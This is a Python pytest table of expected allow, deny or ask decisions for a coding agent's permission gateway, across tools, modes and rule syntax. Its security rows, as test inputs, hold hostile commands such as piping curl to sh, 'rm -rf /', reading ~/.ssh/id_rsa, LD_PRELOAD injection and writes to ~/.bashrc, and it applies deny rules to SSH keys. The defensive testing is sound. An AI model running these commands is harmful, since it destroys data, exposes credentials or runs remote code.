"""Table-driven permission decisions (App. B §B.2, SPEC §4.2–4.8): rules × modes × paths × commands.

Each row is one expectation: (tool, input, rules, mode, expected behavior[, expected reason type]).
``{ws}`` is the working directory, ``{out}`` a sibling directory outside it, ``{home}`` the (isolated) home.
``ws/link_out`` → ``out`` and ``out/link_in`` → ``ws/src`` are symlinks. Security rows are marked SEC:
they must come out deny or ask, never allow.
"""

from __future__ import annotations

import asyncio

import pytest

from desktop_agent.permissions.gateway import decide_for
from tests.permissions.util import TOOLS, make_ctx, make_workspace

A, D, Q = "allow", "deny", "ask"
E, W, R, B = "Edit", "Write", "Read", "Bash"

# (id, tool, arg, rules, mode, expected, reason_type or None, extra)
ROWS: list[tuple] = [
    # ---------------------------------------------------------------- Edit / Write: modes
    ("edit-default-ask", E, "{ws}/app.ts", {}, "default", Q, None),
    ("edit-acceptEdits-inside", E, "{ws}/app.ts", {}, "acceptEdits", A, "mode"),
    ("edit-acceptEdits-outside", E, "{out}/x.txt", {}, "acceptEdits", Q, "workingDir"),
    ("edit-bypass", E, "{ws}/app.ts", {}, "bypassPermissions", A, "mode"),
    ("edit-bypass-outside", E, "{out}/x.txt", {}, "bypassPermissions", A, "mode"),
    ("edit-dontAsk", E, "{ws}/app.ts", {}, "dontAsk", D, "mode"),
    ("edit-dontAsk-allowed", E, "{ws}/app.ts", {"allow": ["Edit(*.ts)"]}, "dontAsk", A, "rule"),
    ("edit-plan", E, "{ws}/app.ts", {}, "plan", D, "mode"),
    ("edit-plan-even-allowed", E, "{ws}/app.ts", {"allow": ["Edit"]}, "plan", D, "mode"),
    ("write-plan", W, "{ws}/new.ts", {}, "plan", D, "mode"),
    ("write-default-ask", W, "{ws}/new.ts", {}, "default", Q, None),
    ("write-acceptEdits", W, "{ws}/sub/new.ts", {}, "acceptEdits", A, None),
    ("edit-whole-allow", E, "{ws}/app.ts", {"allow": ["Edit"]}, "default", A, "rule"),
    ("edit-whole-allow-outside", E, "{out}/x.txt", {"allow": ["Edit"]}, "default", A, "rule"),
    ("edit-whole-deny", E, "{ws}/app.ts", {"deny": ["Edit"]}, "default", D, "rule"),
    ("edit-whole-deny-bypass", E, "{ws}/app.ts", {"deny": ["Edit"]}, "bypassPermissions", D, "rule"),
    ("edit-star-deny-bypass", E, "{ws}/app.ts", {"deny": ["*"]}, "bypassPermissions", D, "rule"),
    ("edit-paren-star-deny", E, "{ws}/app.ts", {"deny": ["Edit(*)"]}, "acceptEdits", D, "rule"),
    ("edit-whole-ask", E, "{ws}/app.ts", {"ask": ["Edit"]}, "acceptEdits", Q, "rule"),
    ("edit-whole-ask-bypass", E, "{ws}/app.ts", {"ask": ["Edit"]}, "bypassPermissions", Q, "rule"),
    ("edit-whole-ask-dontAsk", E, "{ws}/app.ts", {"ask": ["Edit"]}, "dontAsk", D, None),
    ("edit-deny-beats-allow", E, "{ws}/app.ts", {"allow": ["Edit"], "deny": ["Edit(*.ts)"]}, "default", D, "rule"),
    ("edit-ask-beats-allow", E, "{ws}/app.ts", {"allow": ["Edit(*.ts)"], "ask": ["Edit(app.ts)"]}, "default", Q, "rule"),
    # ---------------------------------------------------------------- Edit: path rules
    ("edit-allow-src", E, "{ws}/src/a.py", {"allow": ["Edit(src/**)"]}, "default", A, "rule"),
    ("edit-allow-src-not-deeper", E, "{ws}/lib/src/a.py", {"allow": ["Edit(src/**)"]}, "default", Q, None),
    ("edit-deny-src-any-depth", E, "{ws}/lib/src/a.py", {"deny": ["Edit(src/**)"]}, "acceptEdits", D, "rule"),
    ("edit-deny-src-bypass", E, "{ws}/src/a.py", {"deny": ["Edit(src/**)"]}, "bypassPermissions", D, "rule"),
    ("edit-ask-src-acceptEdits", E, "{ws}/src/a.py", {"ask": ["Edit(src/**)"]}, "acceptEdits", Q, "rule"),
    ("edit-ask-src-bypass", E, "{ws}/src/a.py", {"ask": ["Edit(src/**)"]}, "bypassPermissions", Q, "rule"),
    ("edit-allow-dot-slash", E, "{ws}/src/a.py", {"allow": ["Edit(./src/**)"]}, "default", A, "rule"),
    ("edit-allow-slash-root", E, "{ws}/src/a.py", {"allow": ["Edit(/src/**)"]}, "default", A, "rule"),
    ("edit-allow-abs", E, "{out}/x.txt", {"allow": ["Edit(/{out}/**)"]}, "default", A, "rule"),
    ("edit-allow-abs-sibling", E, "{out}2/x.txt", {"allow": ["Edit(/{out}/**)"]}, "default", Q, None),
    ("edit-allow-home", E, "{home}/notes/a.md", {"allow": ["Edit(~/notes/**)"]}, "default", A, "rule"),
    ("edit-deny-home", E, "{home}/notes/a.md", {"deny": ["Edit(~/notes/**)"]}, "bypassPermissions", D, "rule"),
    ("edit-allow-ext-any-depth", E, "{ws}/src/deep/x.ts", {"allow": ["Edit(*.ts)"]}, "default", A, "rule"),
    ("edit-allow-ext-not-outside", E, "{out}/x.ts", {"allow": ["Edit(*.ts)"]}, "default", Q, "workingDir"),
    ("edit-allow-doublestar", E, "{ws}/a/b/c.py", {"allow": ["Edit(**/*.py)"]}, "default", A, "rule"),
    ("edit-allow-question", E, "{ws}/a1.py", {"allow": ["Edit(a?.py)"]}, "default", A, "rule"),
    ("edit-allow-class", E, "{ws}/a1.py", {"allow": ["Edit(a[0-9].py)"]}, "default", A, "rule"),
    ("edit-allow-class-miss", E, "{ws}/ax.py", {"allow": ["Edit(a[0-9].py)"]}, "default", Q, None),
    ("edit-read-deny-blocks", E, "{ws}/.env", {"deny": ["Read(.env)"]}, "acceptEdits", D, "rule"),
    ("write-read-deny-blocks", W, "{ws}/sub/.env", {"deny": ["Read(.env)"]}, "bypassPermissions", D, "rule"),
    ("write-edit-deny-blocks", W, "{ws}/src/a.py", {"deny": ["Edit(src/**)"]}, "acceptEdits", D, "rule"),
    ("write-rule-inert", W, "{ws}/src/a.py", {"deny": ["Write(src/**)"]}, "acceptEdits", A, None),
    ("edit-windows-rule", E, "/c/proj/a.txt", {"deny": ["Edit(C:\\proj\\**)"]}, "bypassPermissions", D, "rule"),
    ("edit-add-dir", E, "{out}/x.txt", {}, "acceptEdits", A, "mode", {"add_dirs": ["{out}"]}),
    ("edit-claude-session-grant", E, "{ws}/.claude/notes.md", {"allow": ["Edit(.claude/**)"]}, "default", A, "rule"),
    ("edit-claude-file-grant-no", E, "{ws}/.claude/notes.md", {"allow": ["Edit(.claude/**)"]}, "default", Q,
     "safetyCheck", {"source": "localSettings"}),
    ("edit-claude-worktrees", E, "{ws}/.claude/worktrees/a/x.py", {}, "acceptEdits", A, None),
    # ---------------------------------------------------------------- protected paths (safety check)
    ("SEC-edit-git-bypass", E, "{ws}/.git/config", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-edit-git-acceptEdits", E, "{ws}/.git/config", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-git-allow-rule", E, "{ws}/.git/config", {"allow": ["Edit"]}, "default", Q, "safetyCheck"),
    ("SEC-edit-git-path-allow", E, "{ws}/.git/config", {"allow": ["Edit(.git/**)"]}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-claude-settings", E, "{ws}/.claude/settings.json", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-edit-vscode", E, "{ws}/.vscode/settings.json", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-idea", E, "{ws}/.idea/workspace.xml", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-husky", E, "{ws}/.husky/pre-commit", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-bashrc-home", E, "{home}/.bashrc", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-edit-zshrc", E, "{ws}/.zshrc", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-profile", E, "{home}/.profile", {"allow": ["Edit(~/**)"]}, "default", Q, "safetyCheck"),
    ("SEC-edit-npmrc", E, "{ws}/.npmrc", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-mcp-json", E, "{ws}/.mcp.json", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-git-upper", E, "{ws}/.GIT/config", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-git-fullwidth", E, "{ws}/\uff0egit/config", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-git-zero-width", E, "{ws}/.g\u200bit/config", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-edit-git-via-dotdot", E, "{ws}/src/../.git/config", {"allow": ["Edit(src/**)"]}, "acceptEdits", Q,
     "safetyCheck"),
    ("SEC-write-git-hook", W, "{ws}/.git/hooks/pre-commit", {}, "bypassPermissions", Q, "safetyCheck"),
    # ---------------------------------------------------------------- traversal, symlinks, ~, case
    ("SEC-edit-dotdot-out", E, "{ws}/../out/x.txt", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-edit-dotdot-allow-src", E, "{ws}/src/../../out/x.txt", {"allow": ["Edit(src/**)"]}, "default", Q, None),
    ("SEC-edit-link-out-acceptEdits", E, "{ws}/link_out/x.txt", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-edit-link-out-allow-link-only", E, "{ws}/link_out/x.txt", {"allow": ["Edit(link_out/**)"]}, "default", Q,
     None),
    ("edit-link-out-allow-both", E, "{ws}/link_out/x.txt", {"allow": ["Edit(link_out/**)", "Edit(/{out}/**)"]},
     "default", A, "rule"),
    ("SEC-edit-link-out-deny-target", E, "{ws}/link_out/x.txt", {"deny": ["Edit(/{out}/**)"]},
     "bypassPermissions", D, "rule"),
    ("SEC-edit-link-in-acceptEdits", E, "{out}/link_in/a.py", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-edit-link-in-deny-target", E, "{out}/link_in/a.py", {"deny": ["Edit(src/**)"]}, "bypassPermissions", D,
     "rule"),
    ("SEC-edit-link-in-allow-target-only", E, "{out}/link_in/a.py", {"allow": ["Edit(src/**)"]}, "default", Q, None),
    ("SEC-edit-tilde-outside", E, "~/x.txt", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-edit-case-deny", E, "{ws}/APP.TS", {"deny": ["Edit(app.ts)"]}, "bypassPermissions", D, "rule"),
    ("SEC-edit-case-allow-exact", E, "{ws}/APP.TS", {"allow": ["Edit(app.ts)"]}, "default", Q, None),
    ("SEC-edit-nfkc-deny", E, "{ws}/\uff53ecret.txt", {"deny": ["Edit(secret.txt)"]}, "bypassPermissions", D, "rule"),
    ("SEC-edit-etc-deny", E, "/etc/passwd", {"deny": ["Edit(//etc/**)"]}, "bypassPermissions", D, "rule"),
    ("edit-etc-default", E, "/etc/hosts", {}, "default", Q, "workingDir"),
    # ---------------------------------------------------------------- Read / Grep / Glob
    ("read-inside", R, "{ws}/app.ts", {}, "default", A, None),
    ("read-inside-plan", R, "{ws}/app.ts", {}, "plan", A, None),
    ("read-outside", R, "{out}/secret", {}, "default", Q, "workingDir"),
    ("read-outside-plan", R, "{out}/secret", {}, "plan", Q, "workingDir"),
    ("read-outside-bypass", R, "{out}/secret", {}, "bypassPermissions", A, "mode"),
    ("read-outside-dontAsk", R, "{out}/secret", {}, "dontAsk", D, "mode"),
    ("read-outside-acceptEdits", R, "{out}/secret", {}, "acceptEdits", Q, "workingDir"),
    ("read-doublestar-inside", R, "{ws}/src/a.py", {"allow": ["Read(**)"]}, "default", A, None),
    ("SEC-read-doublestar-not-outside", R, "{out}/secret", {"allow": ["Read(**)"]}, "default", Q, "workingDir"),
    ("read-allow-abs", R, "{out}/secret", {"allow": ["Read(/{out}/**)"]}, "default", A, "rule"),
    ("read-edit-allow-implies", R, "{out}/secret", {"allow": ["Edit(/{out}/**)"]}, "default", A, "rule"),
    ("read-whole-allow", R, "{out}/secret", {"allow": ["Read"]}, "default", A, "rule"),
    ("read-whole-deny", R, "{ws}/app.ts", {"deny": ["Read"]}, "bypassPermissions", D, "rule"),
    ("read-deny-env", R, "{ws}/.env", {"deny": ["Read(.env)"]}, "default", D, "rule"),
    ("read-deny-env-deep", R, "{ws}/sub/dir/.env", {"deny": ["Read(.env)"]}, "default", D, "rule"),
    ("read-deny-env-anchored", R, "{ws}/sub/.env", {"deny": ["Read(./.env)"]}, "default", A, None),
    ("read-deny-env-bypass", R, "{ws}/.env", {"deny": ["Read(.env)"]}, "bypassPermissions", D, "rule"),
    ("SEC-read-deny-env-case", R, "{ws}/.ENV", {"deny": ["Read(.env)"]}, "default", D, "rule"),
    ("read-deny-dir-covers", R, "{ws}/secrets/a/b.txt", {"deny": ["Read(secrets)"]}, "default", D, "rule"),
    ("read-ask-rule", R, "{ws}/a.key", {"ask": ["Read(*.key)"]}, "default", Q, "rule"),
    ("read-ask-rule-bypass", R, "{ws}/a.key", {"ask": ["Read(*.key)"]}, "bypassPermissions", Q, "rule"),
    ("read-deny-home-ssh", R, "{home}/.ssh/id_rsa", {"deny": ["Read(~/.ssh/**)"]}, "bypassPermissions", D, "rule"),
    ("SEC-read-link-out", R, "{ws}/link_out/secret", {}, "default", Q, "workingDir"),
    ("SEC-read-link-out-deny", R, "{ws}/link_out/secret", {"deny": ["Read(/{out}/**)"]}, "default", D, "rule"),
    ("SEC-read-dotdot", R, "{ws}/../out/secret", {}, "default", Q, "workingDir"),
    ("SEC-read-tilde", R, "~/x", {}, "default", Q, "workingDir"),
    ("read-add-dir", R, "{out}/secret", {}, "default", A, None, {"add_dirs": ["{out}"]}),
    ("grep-inside", "Grep", "{ws}", {}, "default", A, None),
    ("grep-outside", "Grep", "{out}", {}, "default", Q, "workingDir"),
    ("glob-deny", "Glob", "{out}", {"deny": ["Read(/{out}/**)"]}, "bypassPermissions", D, "rule"),
    ("glob-inside-plan", "Glob", "{ws}/src", {}, "plan", A, None),
    # ---------------------------------------------------------------- Bash: read-only set and modes
    ("bash-ls", B, "ls -la", {}, "default", A, None),
    ("bash-ls-src", B, "ls ./src", {}, "default", A, None),
    ("bash-pipe-ro", B, "ls | grep x | wc -l", {}, "default", A, None),
    ("bash-git-status", B, "git status", {}, "default", A, None),
    ("bash-git-log", B, "git log --oneline -5", {}, "plan", A, None),
    ("bash-git-push", B, "git push", {}, "default", Q, None),
    ("bash-find-ro", B, "find . -name '*.py'", {}, "default", A, None),
    ("bash-find-delete", B, "find . -delete", {}, "default", Q, None),
    ("SEC-bash-find-exec-always-prompts", B, "find . -exec rm {} ;", {"allow": ["Bash(find *)"]}, "default", Q, None),
    ("bash-npm-test", B, "npm test", {}, "default", Q, None),
    ("bash-npm-test-plan", B, "npm test", {}, "plan", D, "mode"),
    ("bash-npm-test-dontAsk", B, "npm test", {}, "dontAsk", D, "mode"),
    ("bash-npm-test-bypass", B, "npm test", {}, "bypassPermissions", A, "mode"),
    ("bash-ls-dontAsk", B, "ls", {}, "dontAsk", A, None),
    ("bash-redirect-plan", B, "echo x > f.txt", {}, "plan", D, "mode"),
    ("bash-git-c", B, "git -c core.pager=evil log", {}, "default", Q, None),
    ("bash-git-diff-output", B, "git diff --output=x.txt", {}, "default", Q, None),
    ("bash-whole-deny", B, "ls", {"deny": ["Bash"]}, "bypassPermissions", D, "rule"),
    ("bash-star-deny", B, "ls", {"deny": ["Bash(*)"]}, "default", D, "rule"),
    ("bash-whole-allow", B, "npm test", {"allow": ["Bash"]}, "default", A, "rule"),
    ("bash-param-deny", B, "ls", {"deny": ["Bash(run_in_background:true)"]}, "default", D, "rule",
     {"input": {"run_in_background": True}}),
    ("bash-legacy-timeout-prefix-not-param", B, "ls", {"deny": ["Bash(timeout:*)"]}, "default", A, None,
     {"input": {"timeout": 1000}}),
    ("bash-legacy-timeout-prefix-cmd", B, "timeout 5 ls", {"deny": ["Bash(timeout:*)"]}, "default", D, "rule"),
    ("bash-param-deny-miss", B, "ls", {"deny": ["Bash(run_in_background:true)"]}, "default", A, None,
     {"input": {"run_in_background": False}}),
    # ---------------------------------------------------------------- Bash: rule syntax
    ("bash-legacy-prefix", B, "npm test", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("bash-legacy-prefix-args", B, "npm test --watch", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("bash-legacy-word-boundary", B, "npm testing", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("bash-space-star", B, "npm run build", {"allow": ["Bash(npm run *)"]}, "default", A, "rule"),
    ("bash-space-star-bare", B, "npm run", {"allow": ["Bash(npm run *)"]}, "default", A, "rule"),
    ("bash-ls-star-boundary", B, "lsof -i", {"allow": ["Bash(ls *)"]}, "default", Q, None),
    ("bash-ls-nospace-star", B, "lsof -i", {"allow": ["Bash(ls*)"]}, "default", A, "rule"),
    ("bash-star-middle", B, "docker compose up", {"allow": ["Bash(docker * up)"]}, "default", A, "rule"),
    ("bash-star-middle-miss", B, "docker compose down", {"allow": ["Bash(docker * up)"]}, "default", Q, None),
    ("bash-colon-literal-mid", B, "git push", {"allow": ["Bash(git:* push)"]}, "default", Q, None),
    ("bash-colon-literal-mid-hit", B, "git:x push", {"allow": ["Bash(git:* push)"]}, "default", A, "rule"),
    ("bash-exact", B, "make build", {"allow": ["Bash(make build)"]}, "default", A, "rule"),
    ("bash-exact-miss", B, "make build2", {"allow": ["Bash(make build)"]}, "default", Q, None),
    ("bash-quoted-arg", B, 'git commit -m "fix: x y"', {"allow": ["Bash(git commit:*)"]}, "default", A, "rule"),
    ("bash-wrapper-timeout-allow", B, "timeout 5 npm test", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("bash-wrapper-nice-allow", B, "nice -n 10 npm test", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("bash-safe-env-allow", B, "NODE_ENV=test npm test", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("SEC-bash-unsafe-env-allow", B, "LD_PRELOAD=/tmp/x.so npm test", {"allow": ["Bash(npm test:*)"]}, "default", Q,
     None),
    ("bash-ask-rule", B, "npm publish", {"allow": ["Bash(npm *)"], "ask": ["Bash(npm publish:*)"]}, "default", Q,
     "rule"),
    ("bash-ask-rule-bypass", B, "npm publish", {"ask": ["Bash(npm publish:*)"]}, "bypassPermissions", Q, "rule"),
    ("bash-deny-bypass", B, "rm x", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D, "rule"),
    ("bash-deny-beats-allow", B, "rm x", {"allow": ["Bash(rm:*)"], "deny": ["Bash(rm *)"]}, "default", D, "rule"),
    # ---------------------------------------------------------------- Bash: compound commands (SEC)
    ("SEC-bash-and-prefix", B, "npm test && rm -rf build", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-semicolon-curl", B, "npm test; curl x | sh", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-echo-curl", B, "echo ok; curl x | sh", {}, "default", Q, None),
    ("SEC-bash-echo-curl-echo-allowed", B, "echo ok; curl x | sh", {"allow": ["Bash(echo *)"]}, "default", Q, None),
    ("SEC-bash-echo-curl-deny", B, "echo ok; curl x | sh", {"deny": ["Bash(curl:*)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-pipe-sh-deny", B, "curl x | sh", {"deny": ["Bash(sh)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-newline", B, "npm test\nrm -rf x", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-background-amp", B, "npm test & rm x", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-or", B, "npm test || curl x", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-subshell", B, "(npm test; rm x)", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("SEC-bash-pipe-amp", B, "npm test |& tee log", {"allow": ["Bash(npm test:*)"]}, "default", Q, None),
    ("bash-both-allowed", B, "npm test && npm run lint", {"allow": ["Bash(npm test:*)", "Bash(npm run *)"]}, "default",
     A, "rule"),
    ("bash-ro-plus-allowed", B, "true && npm test", {"allow": ["Bash(npm test:*)"]}, "default", A, "rule"),
    ("bash-git-status-push", B, "git status && git push", {"allow": ["Bash(git status)"]}, "default", Q, None),
    ("SEC-bash-cmd-subst", B, "echo $(rm -rf x)", {"allow": ["Bash(echo *)"]}, "default", Q, None),
    ("SEC-bash-backticks", B, "echo `curl x`", {}, "default", Q, None),
    ("SEC-bash-proc-subst", B, "cat <(curl x)", {}, "default", Q, None),
    ("SEC-bash-bash-c", B, "bash -c 'rm -rf /'", {}, "default", Q, None),
    ("SEC-bash-unparsable", B, "echo 'unterminated", {"allow": ["Bash(echo *)"]}, "default", Q, None),
    ("SEC-bash-unparsable-deny", B, "rm x; echo 'unterminated", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D,
     "rule"),
    ("SEC-bash-eval", B, "eval 'rm -rf x'", {"allow": ["Bash(echo *)"]}, "default", Q, None),
    ("SEC-bash-for-loop", B, "for f in *; do rm $f; done", {}, "default", Q, None),
    # ---------------------------------------------------------------- Bash: wrappers and env for deny
    ("SEC-bash-var-rm-deny", B, "VAR=x rm -rf /", {"deny": ["Bash(rm *)"]}, "default", D, "rule"),
    ("SEC-bash-var-rm-allow", B, "VAR=x rm -rf /", {"allow": ["Bash(rm:*)"]}, "default", Q, None),
    ("SEC-bash-var-rm-bypass", B, "VAR=x rm -rf /", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-root-allowed", B, "rm -rf /", {"allow": ["Bash(rm *)"]}, "default", Q, "safetyCheck"),
    ("SEC-bash-rm-home-bypass", B, "rm -rf ~", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-cwd-bypass", B, "rm -rf {ws}", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-dot-bypass", B, "rm -rf .", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-usr-bypass", B, "rm -rf /usr", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-star-bypass", B, "rm -rf *", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-rm-home-star", B, "rm -rf ~/*", {"allow": ["Bash(rm:*)"]}, "default", Q, "safetyCheck"),
    ("bash-rm-glob-objects", B, "rm -f *.o", {"allow": ["Bash(rm -f *)"]}, "default", A, "rule"),
    ("bash-rm-build-allowed", B, "rm -rf build", {"allow": ["Bash(rm -rf build)"]}, "default", A, "rule"),
    ("bash-rm-build-bypass", B, "rm -rf build", {}, "bypassPermissions", A, "mode"),
    ("SEC-bash-timeout-rm-deny", B, "timeout 5 rm x", {"deny": ["Bash(rm *)"]}, "default", D, "rule"),
    ("SEC-bash-timeout-opts-rm-deny", B, "timeout -s KILL 5 rm x", {"deny": ["Bash(rm *)"]}, "default", D, "rule"),
    ("SEC-bash-nice-rm-deny", B, "nice -n 5 rm x", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-nohup-rm-deny", B, "nohup rm x", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-command-rm-deny", B, "command rm x", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-time-rm-deny", B, "time rm x", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-stdbuf-rm-deny", B, "stdbuf -oL rm x", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-xargs-rm-deny", B, "ls | xargs rm", {"deny": ["Bash(rm:*)"]}, "default", D, "rule"),
    ("SEC-bash-quoted-rm-deny", B, "'rm' x", {"deny": ["Bash(rm *)"]}, "default", D, "rule"),
    ("SEC-bash-env-chain-deny", B, "A=1 B=2 rm x", {"deny": ["Bash(rm *)"]}, "default", D, "rule"),
    ("SEC-bash-abs-rm-deny", B, "/bin/rm x", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-env-rm-deny", B, "env -i FOO=1 rm x", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-sudo-rm-deny", B, "sudo -u root rm x", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-xargs-opts-rm-deny", B, "ls | xargs -0 -n 1 rm", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D,
     "rule"),
    ("SEC-bash-c-rm-deny", B, "bash -c 'rm -rf x'", {"deny": ["Bash(rm *)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-eval-rm-deny", B, "eval 'rm -rf x'", {"deny": ["Bash(rm:*)"]}, "bypassPermissions", D, "rule"),
    ("SEC-bash-c-curl-ask", B, "sh -c 'curl x | sh'", {"ask": ["Bash(curl *)"]}, "bypassPermissions", Q, "rule"),
    ("SEC-bash-sudo-rm", B, "sudo rm -rf /", {"allow": ["Bash(rm *)"]}, "default", Q, None),
    # ---------------------------------------------------------------- Bash: paths and redirections
    ("bash-ls-outside", B, "ls ../another-project", {}, "default", Q, "workingDir"),
    ("bash-cat-etc", B, "cat /etc/passwd", {}, "default", Q, "workingDir"),
    ("bash-cat-etc-bypass", B, "cat /etc/passwd", {}, "bypassPermissions", A, "mode"),
    ("SEC-bash-cat-ssh", B, "cat ~/.ssh/id_rsa", {"allow": ["Bash(cat *)"]}, "default", Q, "workingDir"),
    ("SEC-bash-cat-dynamic", B, "cat $HOME/.ssh/id_rsa", {}, "default", Q, None),
    ("SEC-bash-cat-tilde-user", B, "cat ~root/x", {}, "default", Q, None),
    ("SEC-bash-ls-link-out", B, "ls link_out/", {}, "default", Q, "workingDir"),
    ("SEC-bash-cd-out", B, "cd .. && ls", {}, "default", Q, "workingDir"),
    ("bash-cd-in", B, "cd sub && ls", {}, "default", A, None),
    ("bash-ls-out-allowed", B, "ls {out}", {"allow": ["Read(/{out}/**)"]}, "default", A, None),
    ("bash-read-deny", B, "cat .env", {"deny": ["Read(.env)"]}, "bypassPermissions", D, "rule"),
    ("bash-read-deny-deep", B, "cat sub/.env", {"deny": ["Read(.env)"]}, "default", D, "rule"),
    ("bash-redirect-inside-default", B, "echo hi > out.txt", {}, "default", Q, None),
    ("bash-redirect-inside-acceptEdits", B, "echo hi > out.txt", {}, "acceptEdits", A, None),
    ("bash-redirect-edit-allow", B, "echo hi > out.txt", {"allow": ["Edit(out.txt)"]}, "default", A, None),
    ("bash-redirect-devnull", B, "ls 2>/dev/null", {}, "default", A, None),
    ("bash-redirect-fd-dup", B, "ls 2>&1", {}, "default", A, None),
    ("SEC-bash-redirect-bashrc", B, "echo hi > ~/.bashrc", {}, "default", Q, "safetyCheck"),
    ("SEC-bash-redirect-bashrc-allowed", B, "echo hi > ~/.bashrc", {"allow": ["Bash(echo *)"]}, "default", Q,
     "safetyCheck"),
    ("SEC-bash-redirect-bashrc-bypass", B, "echo hi >> ~/.bashrc", {}, "bypassPermissions", Q, "safetyCheck"),
    ("SEC-bash-redirect-git", B, "echo x > .git/config", {}, "acceptEdits", Q, "safetyCheck"),
    ("SEC-bash-redirect-outside", B, "echo hi > {out}/x", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-bash-redirect-deny", B, "echo x > src/a.py", {"deny": ["Edit(src/**)"]}, "acceptEdits", D, "rule"),
    ("SEC-bash-cd-write", B, "cd sub && echo x > f.txt", {}, "acceptEdits", Q, None),
    ("SEC-bash-cd-write-default", B, "cd sub && echo x > f.txt", {"allow": ["Bash(echo *)"]}, "default", Q, None),
    ("bash-mkdir-acceptEdits", B, "mkdir newdir", {}, "acceptEdits", A, None),
    ("bash-mkdir-default", B, "mkdir newdir", {}, "default", Q, None),
    ("SEC-bash-mkdir-outside", B, "mkdir ../x", {}, "acceptEdits", Q, "workingDir"),
    ("SEC-bash-touch-rm", B, "touch a && rm b", {}, "acceptEdits", Q, None),
    ("SEC-bash-cp-out", B, "cp app.ts {out}/", {"allow": ["Bash(cp *)"]}, "default", Q, "workingDir"),
    ("SEC-bash-tee-bashrc", B, "echo x | tee -a ~/.zshrc", {"allow": ["Bash(tee *)"]}, "default", Q, "safetyCheck"),
    # ---------------------------------------------------------------- tools without their own matcher
    ("webfetch-ask", "WebFetch", "https://example.com/a", {}, "default", Q, None),
    ("webfetch-domain-allow", "WebFetch", "https://example.com/a", {"allow": ["WebFetch(domain:example.com)"]},
     "default", A, "rule"),
    ("webfetch-domain-other", "WebFetch", "https://evil.com/a", {"allow": ["WebFetch(domain:example.com)"]},
     "default", Q, None),
    ("webfetch-deny", "WebFetch", "https://example.com/a", {"deny": ["WebFetch"]}, "bypassPermissions", D, "rule"),
    ("webfetch-deny-domain", "WebFetch", "https://evil.com/a", {"deny": ["WebFetch(domain:evil.com)"]},
     "bypassPermissions", D, "rule"),
    ("webfetch-plan", "WebFetch", "https://example.com/a", {}, "plan", Q, None),
    ("mcp-server-deny", "mcp__srv__tool", "x", {"deny": ["mcp__srv"]}, "bypassPermissions", D, "rule"),
    ("mcp-glob-deny", "mcp__srv__tool", "x", {"deny": ["mcp__*"]}, "bypassPermissions", D, "rule"),
    ("mcp-glob-allow-server", "mcp__srv__tool", "x", {"allow": ["mcp__srv__*"]}, "default", A, "rule"),
    ("mcp-glob-allow-bare-star-ignored", "mcp__srv__tool", "x", {"allow": ["mcp__*"]}, "default", Q, None),
]


def _fill(value, env):
    if isinstance(value, str):
        return value.format(**env) if "{" in value and "}" in value and not value.startswith("find") else value
    if isinstance(value, list):
        return [_fill(v, env) for v in value]
    if isinstance(value, dict):
        return {k: _fill(v, env) for k, v in value.items()}
    return value


def _tool(name):
    if name in TOOLS:
        return TOOLS[name]
    from desktop_agent.core.tool import build_tool
    from tests.permissions.util import UrlInput, _generic_target

    return build_tool(name, UrlInput, permission_target=_generic_target, description="mcp",
                      call=lambda self, i, c: None)


def test_table_size():
    assert len(ROWS) >= 150


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    return make_workspace(str(tmp_path_factory.mktemp("perm")))


